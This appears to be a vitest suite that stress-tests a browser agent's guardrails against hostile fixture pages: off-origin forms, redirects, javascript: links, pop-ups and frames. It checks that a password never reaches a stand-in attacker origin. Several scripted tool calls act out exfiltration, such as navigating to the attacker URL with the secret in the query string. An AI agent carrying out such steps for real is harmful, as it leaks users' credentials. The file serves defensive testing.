import { readFileSync } from "node:fs"
import { BrowserDriver, decodeAgentTask, LanguageModel, Store, ToolRegistry } from "@sextant/core"
import {
  type AttackerOrigin,
  type FixtureSite,
  startAttackerOrigin,
  startFixtureSite,
} from "@sextant/fixture-site"
import { secretForms } from "@sextant/memory"
import { make as makeOpenAi } from "@sextant/openai"
import { makeLlmStepPolicy, type Planner, rulePlannerLayer } from "@sextant/planner"
import {
  layerMemoryStore,
  type OpenAiServer,
  type RecordedRequest,
  Reply,
  type ScriptedReply,
  startOpenAiServer,
} from "@sextant/testing"
import { browserTools, compoundTools } from "@sextant/tools"
import { layer as browserLayer } from "@sextant/webdriverio"
import { Effect, Layer, ManagedRuntime } from "effect"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import { planAndRun, runAgent, type TraceRecord } from "../src/index.ts"
import { temporaryDirectory } from "./support/TemporaryDirectory.ts"

/**
 * Pages that try to take the password or the browser to another origin, run in real headless Chromium
 * with the rule planner and with the model step policy (the real openai SDK against the scripted
 * server). A second server plays the other origin and logs every request; whatever the pages try, it
 * must never receive the secret in any spelling, and each attempt must be a guardrail event.
 */

const EMAIL = "alice@example.com"
const PASSWORD = "open sesame+42"
const tools = [...browserTools, ...compoundTools]

let site: FixtureSite
let attacker: AttackerOrigin
let model: OpenAiServer
let stepReply: (turn: number, request: RecordedRequest) => ScriptedReply = () =>
  Reply.json({ tool_calls: [] })
let turn = 0
let runtime: ManagedRuntime.ManagedRuntime<BrowserDriver | Store | LanguageModel | Planner, unknown>

const isSummary = (request: RecordedRequest): boolean =>
  (request.responseFormat as { json_schema?: { name?: string } } | undefined)?.json_schema?.name === "summary"

beforeAll(async () => {
  site = await startFixtureSite({ port: 0 })
  attacker = await startAttackerOrigin()
  model = await startOpenAiServer({
    replies: (request) =>
      isSummary(request)
        ? Reply.json({
            taskComplete: false,
            summary: "scripted summary",
            keyFindings: [],
            nextSuggestions: [],
          })
        : stepReply(turn++, request),
  })
  const language = Layer.effect(
    LanguageModel,
    makeOpenAi({ baseURL: model.baseURL, apiKey: "test-key", model: "test-model", maxRetries: 0 }),
  )
  runtime = ManagedRuntime.make(
    Layer.mergeAll(browserLayer({}), layerMemoryStore, language, rulePlannerLayer),
  )
  await runtime.runPromise(Effect.void)
})

afterAll(async () => {
  await runtime?.dispose()
  await model?.close()
  await attacker?.close()
  await site?.close()
})

beforeEach(() => {
  turn = 0
})

/** Every spelling of the password a request could carry it in. */
const leaks = (text: string): boolean => secretForms(PASSWORD).some((form) => text.includes(form))

/** The attacker's log from `since` on, and whether any of it holds the password. */
const attackerSince = (since: number) => {
  const requests = attacker.requests.slice(since)
  return {
    requests,
    // The browser asks for an icon of a page it showed earlier whenever it likes, even after that
    // test ended; it carries nothing (the leak check still reads it), so paths leave it out.
    paths: requests
      .filter((request) => request.url !== "/favicon.ico")
      .map((request) => `${request.method} ${request.url}`),
    leaked: requests.some((request) => leaks(JSON.stringify(request))),
  }
}

const hostile = (path: string) =>
  `${site.url}${path}${path.includes("?") ? "&" : "?"}to=${encodeURIComponent(attacker.url)}`

const taskFor = (goal: string, startUrl: string, password = PASSWORD) =>
  Effect.runSync(
    decodeAgentTask({
      goal,
      startUrl,
      inputs: { email: EMAIL, password },
      secretInputs: ["password"],
      constraints: {
        allowFormSubmission: true,
        maxSteps: 12,
        stepTimeoutMs: 8_000,
        maxDurationMs: 60_000,
      },
    }),
  )

const withRules = async (goal: string, startUrl: string, password = PASSWORD) => {
  const since = attacker.requests.length
  const events: Array<TraceRecord> = []
  const result = await runtime.runPromise(
    planAndRun(taskFor(goal, startUrl, password), {
      tools,
      onEvent: (event) => events.push(event),
      screenshots: "never",
    }),
  )
  return { result, events, attacker: attackerSince(since) }
}

const withModel = async (
  startUrl: string,
  script: ReadonlyArray<{ name: string; args: Record<string, unknown> }>,
  options: { readonly traceDirectory?: string } = {},
) => {
  const since = attacker.requests.length
  const modelSince = model.requests.length
  stepReply = (index) => {
    const call = script[index]
    return call === undefined
      ? Reply.json({ tool_calls: [{ name: "stop", args: {} }] })
      : Reply.json({ tool_calls: [call] })
  }
  const events: Array<TraceRecord> = []
  const result = await runtime.runPromise(
    Effect.gen(function* () {
      const registry = yield* ToolRegistry.make(tools)
      const policy = yield* makeLlmStepPolicy({ registry })
      return yield* runAgent(taskFor("sign in and look around", startUrl), policy, {
        tools: registry,
        noOpBackoffMs: 5,
        onEvent: (event) => events.push(event),
        ...(options.traceDirectory === undefined
          ? { screenshots: "never" as const }
          : {
              screenshots: "on-failure" as const,
              traceDirectory: options.traceDirectory,
              retry: { maxRetries: 0 },
            }),
      })
    }),
  )
  return { result, events, attacker: attackerSince(since), prompts: model.requests.slice(modelSince) }
}

const guardrails = (events: ReadonlyArray<TraceRecord>) =>
  events.flatMap((event) => (event.type === "guardrail" ? [event.rule] : []))

const openTabs = () => runtime.runPromise(BrowserDriver.use((driver) => driver.tabs))

describe("hostile pages with the rule planner: the other origin never receives the secret", () => {
  it("refuses to type the password into a form whose action is on another origin, and does not replan", async () => {
    const { result, events, attacker } = await withRules(
      `log in as ${EMAIL} with password ${PASSWORD}`,
      hostile("/hostile/offsite-form"),
    )
    expect(guardrails(events)).toContain("secret-origin")
    expect(events.some((event) => event.type === "replan")).toBe(false)
    expect(result.status).toBe("FAILED")
    expect(attacker.leaked).toBe(false)
    expect(attacker.paths).toEqual([])
    expect(JSON.stringify(result)).not.toContain(PASSWORD)
  }, 60_000)

  it("never types the password into another origin's login form the page moved to", async () => {
    const { result, events, attacker } = await withRules(
      `log in as ${EMAIL} with password ${PASSWORD}`,
      hostile("/hostile/redirect-login"),
    )
    // Which guard speaks first depends on when the page moves (200 ms after it loads): the one that
    // refuses a page on another origin once the navigation lands there, or the one that refuses to
    // type a secret into it. Either way the run fails and nothing reaches the other origin.
    expect(
      guardrails(events).filter((rule) => rule === "secret-origin" || rule === "allowed-origins"),
    ).not.toEqual([])
    expect(result.status).toBe("FAILED")
    expect(attacker.leaked).toBe(false)
    expect(attacker.paths.filter((path) => path.startsWith("POST"))).toEqual([])
  }, 60_000)

  it("never runs a javascript: link, whichever click tool the replanner picks", async () => {
    const { result, events, attacker } = await withRules("click Claim offer", hostile("/hostile/links"))
    expect(guardrails(events).length).toBeGreaterThan(0)
    expect(result.status).toBe("FAILED")
    expect(attacker.paths).toEqual([])
  }, 60_000)

  it("does not follow a link to another origin", async () => {
    const { result, events, attacker } = await withRules("click Partner offer", hostile("/hostile/links"))
    expect(guardrails(events).length).toBeGreaterThan(0)
    expect(result.status).toBe("FAILED")
    expect(attacker.paths).toEqual([])
  }, 60_000)

  it("closes pop-ups a page opens on another origin before they load, and reports each one", async () => {
    const { events, attacker } = await withRules("scroll down", hostile("/hostile/popups"))
    expect(guardrails(events).filter((rule) => rule === "popup").length).toBeGreaterThanOrEqual(1)
    expect(attacker.leaked).toBe(false)
    // Closed by the driver while held before their first request: the other origin never heard of them.
    expect(attacker.paths.filter((path) => path.startsWith("GET /popup"))).toEqual([])
    expect((await openTabs()).map((tab) => new URL(tab.url).origin)).toEqual([site.url])
  }, 60_000)

  it("refuses a plan that puts the password into a URL", async () => {
    // A URL cannot hold a space, so this password is one word.
    const { result, events, attacker } = await withRules(
      `go to ${site.url}/hostile/secret-in-url?note=sesame42word`,
      `${site.url}/`,
      "sesame42word",
    )
    expect(guardrails(events)).toContain("secret-placeholder")
    expect(result.status).toBe("FAILED")
    expect(attacker.paths).toEqual([])
    expect(JSON.stringify(result)).not.toContain("sesame42word")
  }, 60_000)
})

describe("hostile pages with the model step policy: the other origin never receives the secret", () => {
  it("refuses the password for an off-origin form action, and the guard stops the submit", async () => {
    const { events, attacker, prompts } = await withModel(hostile("/hostile/offsite-form"), [
      { name: "fill", args: { target: "#email", value: EMAIL } },
      { name: "fill", args: { target: "#password", value: "<secret:password>" } },
      { name: "click", args: { target: "#login-btn" } },
    ])
    const rules = guardrails(events)
    expect(rules).toContain("secret-origin")
    expect(rules).toContain("form-action")
    expect(attacker.paths).toEqual([])
    expect(prompts.some((request) => leaks(JSON.stringify(request)))).toBe(false)
  }, 60_000)

  it("stops Enter in a field from submitting a form to another origin", async () => {
    const { events, attacker } = await withModel(hostile("/hostile/offsite-form"), [
      { name: "fill", args: { target: "#email", value: EMAIL } },
      { name: "press", args: { target: "#email", key: "Enter" } },
    ])
    expect(guardrails(events)).toEqual(["form-action"])
    expect(attacker.paths).toEqual([])
  }, 60_000)

  it("refuses the password for a field in another origin's frame", async () => {
    const { events, attacker } = await withModel(hostile("/hostile/framed-login"), [
      { name: "fill", args: { target: "#login-frame", value: "<secret:password>" } },
    ])
    expect(guardrails(events)).toEqual(["secret-origin"])
    expect(attacker.leaked).toBe(false)
    expect(attacker.paths.filter((path) => path.startsWith("POST"))).toEqual([])
  }, 60_000)

  it("types nothing into another origin's login form the page moves to while the fill waits", async () => {
    // The first fill starts on the loading page and waits for a password field until the page moves
    // (the move ends it); the second meets the other origin's form, which reports every keystroke.
    const { events, attacker } = await withModel(hostile("/hostile/redirect-login?after=1200"), [
      { name: "fill", args: { target: "#password", value: "<secret:password>" } },
      { name: "fill", args: { target: "#password", value: "<secret:password>" } },
      { name: "click", args: { target: "#login-btn" } },
    ])
    expect(guardrails(events)).toContain("secret-origin")
    expect(attacker.paths.some((path) => path.startsWith("GET /login"))).toBe(true)
    expect(attacker.leaked).toBe(false)
    expect(attacker.paths.filter((path) => path.startsWith("POST"))).toEqual([])
  }, 60_000)

  it("never runs javascript: links or follows off-origin ones, through any click tool", async () => {
    // Five refusals in a row are five no-ops: the run then ends for lack of progress.
    const { events, attacker } = await withModel(hostile("/hostile/links"), [
      { name: "click", args: { target: "#js-link" } },
      { name: "clickTextMatches", args: { text: "Claim offer", count: 3 } },
      { name: "clickMatches", args: { selector: "a", attribute: "href", pattern: "^javascript:" } },
      { name: "clickNthAnchor", args: { index: 0, rootSelector: "#offers" } },
      { name: "clickTextMatches", args: { text: "Partner offer" } },
    ])
    const rules = guardrails(events)
    expect(rules).toHaveLength(5)
    expect(rules.filter((rule) => rule === "link-target")).toHaveLength(4)
    expect(attacker.paths).toEqual([])
  }, 60_000)

  it("opens no window on another origin, by target=_blank or window.open", async () => {
    const { events, attacker } = await withModel(hostile("/hostile/links"), [
      { name: "click", args: { target: "#popup-link" } },
      { name: "click", args: { target: "#popup-button" } },
    ])
    const rules = guardrails(events)
    // The link is refused by its href before the click; window.open is stopped in the page.
    expect(rules).toEqual(["allowed-origins", "popup"])
    expect(attacker.paths).toEqual([])
    expect((await openTabs()).length).toBe(1)
  }, 60_000)

  it("refuses a model that puts the password into a URL or another origin's search box", async () => {
    const other = attacker.url
    const {
      events,
      attacker: log,
      prompts,
    } = await withModel(hostile("/hostile/secret-in-url"), [
      { name: "navigate", args: { url: `${other}/done?note=<secret:password>` } },
      { name: "navigate", args: { url: `${site.url}/?note=<secret:password>` } },
      { name: "fill", args: { label: "Search", value: "<secret:password>" } },
    ])
    const rules = guardrails(events)
    expect(rules.filter((rule) => rule === "secret-placeholder")).toHaveLength(2)
    expect(rules).toContain("secret-origin")
    expect(log.paths).toEqual([])
    expect(prompts.some((request) => leaks(JSON.stringify(request)))).toBe(false)
  }, 60_000)

  it("refuses the password for a GET form, whose fields would put it into the next page's URL", async () => {
    const { result, events, prompts } = await withModel(`${site.url}/hostile/get-form`, [
      { name: "fill", args: { target: "#email", value: EMAIL } },
      { name: "fill", args: { target: "#password", value: "<secret:password>" } },
      { name: "click", args: { target: "#login-btn" } },
      { name: "extract", args: { target: "#seen" } },
    ])
    expect(guardrails(events)).toEqual(["secret-field"])
    expect(result.observations.some((observation) => observation.url?.includes("password=") === true)).toBe(
      false,
    )
    expect(prompts.length).toBeGreaterThan(4)
    expect(prompts.some((request) => leaks(JSON.stringify(request)))).toBe(false)
    expect(leaks(JSON.stringify(result))).toBe(false)
    const stored = await runtime.runPromise(Store.use((store) => store.listRecords(result.runId)))
    expect(leaks(JSON.stringify(stored))).toBe(false)
  }, 60_000)

  it("masks a secret typed into a plain text field in the failure screenshot", async () => {
    const directory = temporaryDirectory("sextant-mask-")
    const { events } = await withModel(
      `${site.url}/hostile/plain-field`,
      [
        { name: "fill", args: { target: "#code", value: "<secret:password>" } },
        { name: "click", args: { target: "#no-such-button" } },
      ],
      { traceDirectory: directory },
    )
    const shot = events.flatMap((event) =>
      event.type === "step-end" && event.screenshot !== undefined ? [event.screenshot] : [],
    )[0]
    expect(shot).toBeDefined()
    const failure = readFileSync(shot as string)
    const [shown, masked] = await runtime.runPromise(
      BrowserDriver.use((driver) =>
        Effect.gen(function* () {
          expect(yield* driver.evaluate("return document.querySelector('#code').value")).toBe(PASSWORD)
          const shown = yield* driver.screenshot()
          yield* driver.evaluate(
            "document.querySelector('#code').style.setProperty('-webkit-text-security', 'disc')",
          )
          const masked = yield* driver.screenshot()
          return [Buffer.from(shown), Buffer.from(masked)] as const
        }),
      ),
    )
    expect(failure.equals(masked)).toBe(true)
    expect(failure.equals(shown)).toBe(false)
  }, 60_000)

  it("masks a secret typed into a plain text field in a screenshot the model asks for", async () => {
    const { result } = await withModel(`${site.url}/hostile/plain-field`, [
      { name: "fill", args: { target: "#code", value: "<secret:password>" } },
      { name: "screenshot", args: {} },
    ])
    const taken = result.observations.find((observation) => observation.tool === "screenshot")
    const base64 = (taken?.data as { base64?: string } | undefined)?.base64
    expect(base64).toBeDefined()
    const [shown, masked] = await runtime.runPromise(
      BrowserDriver.use((driver) =>
        Effect.gen(function* () {
          expect(yield* driver.evaluate("return document.querySelector('#code').value")).toBe(PASSWORD)
          const shown = yield* driver.screenshot()
          yield* driver.evaluate(
            "document.querySelector('#code').style.setProperty('-webkit-text-security', 'disc')",
          )
          const masked = yield* driver.screenshot()
          return [Buffer.from(shown).toString("base64"), Buffer.from(masked).toString("base64")] as const
        }),
      ),
    )
    expect(base64).toBe(masked)
    expect(base64).not.toBe(shown)
  }, 60_000)
})
